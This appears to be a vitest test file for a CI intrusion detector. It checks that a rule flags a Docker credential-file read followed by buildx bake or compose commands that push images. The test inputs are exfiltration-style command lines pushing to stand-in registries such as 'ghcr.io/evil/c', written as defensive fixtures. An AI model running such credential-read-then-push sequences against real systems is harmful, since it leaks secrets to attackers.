/**
 * Builds that push through bake's `--set` or compose (found by red-team review): `docker buildx bake --set
 * *.push=true` was documented as a push but `--set` was read as a flag without a value, so its
 * `*.push=true` was a positional and nothing matched; `--set *.output=type=registry`, `--set
 * *.cache-to=type=registry,ref=…` and `docker compose build --push` were never pushes. Each uploads the
 * images built from a context the job may have filled with stolen files.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

function buildAfterSecret(args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'build-9', name: 'job' });
  const sh = s.init(c);
  s.read(sh, '/root/.docker/config.json', 300).wait(1_000);
  const p = s.exec(c, '/usr/bin/docker', args, { parent: sh });
  s.wait(500).exit(p);
  return run(s.events).alerts;
}

describe('bake and compose builds that push', () => {
  for (const source of ['tetragon', 'falco'] as const)
    it(`docker buildx bake --set *.push=true is a push (${source})`, () => {
      expect(brief(buildAfterSecret('buildx bake --set *.push=true', source))).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: null },
      ]);
    });

  it('so are --set outputs and caches to a registry, and compose build --push', () => {
    for (const args of [
      'buildx bake --set *.output=type=registry',
      'buildx bake --set app.cache-to=type=registry,ref=ghcr.io/evil/c',
      'compose build --push',
    ])
      expect(brief(buildAfterSecret(args))).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker' }]);
  });

  // Found by review: bake and BuildKit read `push` with Go's strconv.ParseBool, so `1`, `t`, `TRUE` push too.
  it('so is a push set to any true value, and an output that pushes', () => {
    for (const args of [
      'buildx bake --set *.push=1',
      'buildx bake --set app.push=TRUE',
      'buildx build --output type=image,name=ghcr.io/evil/x,push=1 -t x /srv',
    ])
      expect(brief(buildAfterSecret(args)), args).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker' }]);
    for (const args of ['buildx bake --set *.args.push=true', 'buildx bake --set *.push=0'])
      expect(buildAfterSecret(args), args).toEqual([]);
  });

  it('bake and compose builds that keep their images stay quiet', () => {
    for (const args of [
      'buildx bake',
      'buildx bake --set *.cache-from=type=registry,ref=ghcr.io/acme/c',
      'compose build',
    ])
      expect(buildAfterSecret(args)).toEqual([]);
  });
});
